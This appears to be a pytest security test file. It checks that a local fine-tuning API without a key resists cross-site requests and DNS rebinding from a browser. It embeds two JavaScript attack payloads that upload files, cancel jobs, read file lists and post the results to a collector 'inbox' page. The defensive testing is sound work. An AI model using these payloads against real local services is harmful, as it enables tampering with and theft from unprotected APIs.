"""Pages of other sites in a real browser, against an API without a key on this machine."""

from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.app.conftest import BASE, EXAMPLES, ApiHarness, serving
from tests.harness.servers.browser import Site, browsing

# What a page of any site may send without asking first, and what it sees of the answers.
ATTACK = """
const seen = {};
async function attempt(name, path, init) {
  try {
    const answer = await fetch(API + path, init);
    seen[name] = [answer.type, answer.status, await answer.text()];
  } catch (error) { seen[name] = [error.name, 0, '']; }
}
const form = new FormData();
form.append('purpose', 'fine-tune');
form.append('file', new Blob(['{"prompt": "p", "completion": "c"}\\n']), 'data.jsonl');
(async () => {
  await attempt('upload', '/v1/files', {method: 'POST', mode: 'no-cors', body: form});
  for (const verb of ['pause', 'cancel', 'resume'])
    await attempt(verb, `/v1/fine_tuning/jobs/${JOB}/${verb}`, {method: 'POST', mode: 'no-cors'});
  await attempt('read', '/v1/files');
  await attempt('key', '/v1/files', {headers: {authorization: 'Bearer unused'}});
  await fetch(INBOX, {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
})();
"""
# A page that was served by the same name and port before these became the API's: to the browser it is the API's own.
REBOUND = """
const pause = () => new Promise(done => setTimeout(done, 50));
async function ours() {
  for (;;) {
    try {
      const answer = await fetch('/v1/files');
      if (answer.headers.get('x-request-id')) return answer;
    } catch (error) { }
    await pause();
  }
}
(async () => {
  await fetch(INBOX, {method: 'POST', mode: 'no-cors', body: '"loaded"'});
  const read = await ours();
  const cancelled = await fetch(`/v1/fine_tuning/jobs/${JOB}/cancel`, {method: 'POST'});
  const seen = {read: [read.status, await read.text()], cancel: [cancelled.status, await cancelled.text()]};
  await fetch(INBOX, {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
})();
"""


def make_job(url: str) -> str:
    """Make a job as a program of this machine does."""
    with httpx2.Client(base_url=url) as client:
        form: dict[str, Any] = {"files": {"file": ("data.jsonl", EXAMPLES)}, "data": {"purpose": "fine-tune"}}
        file_id = client.post("/v1/files", **form).json()["id"]
        job = client.post("/v1/fine_tuning/jobs", json={"model": BASE, "training_file": file_id})
    return str(job.json()["id"])


def state_of(url: str, job_id: str) -> tuple[str, int]:
    """Give the job's status and the number of files."""
    with httpx2.Client(base_url=url) as client:
        job = client.get(f"/v1/fine_tuning/jobs/{job_id}").json()
        return job["status"], len(client.get("/v1/files").json()["data"])


@pytest.fixture
def inbox() -> Iterator[Site]:
    with Site() as site:
        yield site


def constants(**values: str) -> str:
    return "".join(f"const {name} = {value!r};\n" for name, value in values.items())


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.test"], ids=["of-this-machine", "of-another-site"])
def test_a_foreign_page_changes_and_reads_nothing(harness: ApiHarness, inbox: Site, tmp_path: Path, host: str) -> None:
    with serving(harness.app()) as url:
        job_id = make_job(url)
        with Site(constants(API=url, JOB=job_id, INBOX=inbox.address) + ATTACK) as site:
            page = f"http://{host}:{site.server_port}/"
            with browsing(page, tmp_path / "profile", local_name="evil.test"):
                seen = inbox.report()
        assert state_of(url, job_id) == ("queued", 1)
    assert seen["read"] == seen["key"] == ["TypeError", 0, ""]


def test_a_rebound_page_changes_and_reads_nothing(harness: ApiHarness, inbox: Site, tmp_path: Path) -> None:
    with serving(harness.app()) as url:
        job_id = make_job(url)
    with ExitStack() as stack:
        with Site(constants(JOB=job_id, INBOX=inbox.address) + REBOUND) as site:
            page = f"http://rebound.test:{site.server_port}/"
            stack.enter_context(browsing(page, tmp_path / "profile", local_name="rebound.test"))
            assert inbox.report() == "loaded"
        url = stack.enter_context(serving(harness.app(), site.server_port))
        seen = inbox.report()
        assert state_of(url, job_id) == ("queued", 1)
    for status, text in seen.values():
        assert status == 421
        assert f"rebound.test:{site.server_port}" in text
